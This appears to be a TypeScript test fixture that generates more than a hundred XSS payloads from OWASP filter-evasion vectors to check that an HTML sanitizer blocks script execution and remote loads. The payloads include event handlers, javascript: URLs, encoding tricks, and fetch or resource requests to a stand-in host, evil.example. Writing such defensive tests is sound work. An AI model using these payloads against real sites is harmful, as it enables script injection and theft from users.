// The hostile-content corpus (issue 13): markup that runs script or loads from elsewhere if any
// screen lets it through. Built from the vectors of OWASP's XSS filter-evasion cheat sheet, each
// in several forms; every payload reports itself through a hook the test counts (alert, confirm,
// prompt, console) or a request to evil.example (network). Zero of either is the only pass.

/** What a payload does when it runs: one of the hooks the test watches, with its number. */
const RUNS = [
  (n: number) => `alert(${n})`,
  (n: number) => `confirm(${n})`,
  (n: number) => `prompt(${n})`,
  (n: number) => `console.log('XSS-${n}')`,
  (n: number) => `fetch('https://evil.example/run/${n}')`,
]

/** Vectors: `$` is where the script goes, `#` a unique number for remote addresses. */
const VECTORS = [
  '<script>$</script>',
  '<SCRIPT SRC="https://evil.example/x#.js"></SCRIPT>',
  '<img src=x onerror="$">',
  '<IMG SRC=x ONERROR="$">',
  '<img src="x" onerror=$ >',
  '<svg onload="$"></svg>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin="$" attributeName="x" dur="1s"></animate></svg>',
  '<body onload="$">',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<iframe src="javascript:$"></iframe>',
  '<details open ontoggle="$">x</details>',
  '<video><source onerror="$"></video>',
  '<audio src="x" onerror="$"></audio>',
  '<input autofocus onfocus="$">',
  '<marquee onstart="$">m</marquee>',
  '<a href="javascript:$">link#</a>',
  '<a href="JaVaScRiPt:$">link#</a>',
  '<a href="&#106;avascript:$">link#</a>',
  '<a href="jav&#x09;ascript:$">link#</a>',
  '<a href=" javascript:$">link#</a>',
  '<a href="data:text/html,<script>$</script>">link#</a>',
  '<a href="vbscript:$">link#</a>',
  '<form action="javascript:$"><button>go#</button></form>',
  '<object data="javascript:$"></object>',
  '<embed src="javascript:$">',
  '<math><a xlink:href="javascript:$">m#</a></math>',
  '<svg><a xlink:href="javascript:$"><text x="0" y="10">s#</text></a></svg>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '"><img src=x onerror="$">',
  "'><svg onload='$'>",
  '</textarea><script>$</script>',
  '<img src="x:alert" onerror="eval(\'$\')">',
  '<div onmouseover="$">hover#</div>',
  '<b onclick="$">click#</b>',
  '<x onclick="$">custom#</x>',
  '<style>@import "https://evil.example/s#.css";</style>',
  '<div style="background:url(https://evil.example/bg#.png)">bg#</div>',
  '<img src="https://evil.example/i#.png">',
  '<img srcset="https://evil.example/s#.png 1x">',
  '<video poster="https://evil.example/p#.png"></video>',
  '<link rel="stylesheet" href="https://evil.example/l#.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<base href="https://evil.example/b#/">',
  '<img src="blob:https://evil.example/#" onerror="$">',
  '[sound:x" onerror="$]',
  '[sound:javascript:$]',
  '{{c1::<img src=x onerror="$">}}',
  '{{c1::answer#::<svg onload="$">}}',
  '{{constructor.constructor("$")()}}',
]

export interface Payload {
  id: number
  html: string
}

/** Every vector in each form it takes: well over 100 payloads, each with its own number. */
export const PAYLOADS: Payload[] = VECTORS.flatMap((vector, v) =>
  RUNS.filter((_, r) => vector.includes('$') || r === 0).map((run, r) => {
    const id = v * 10 + r + 1
    return { id, html: vector.replace(/\$/g, run(id)).replace(/#/g, String(id)) }
  }),
)
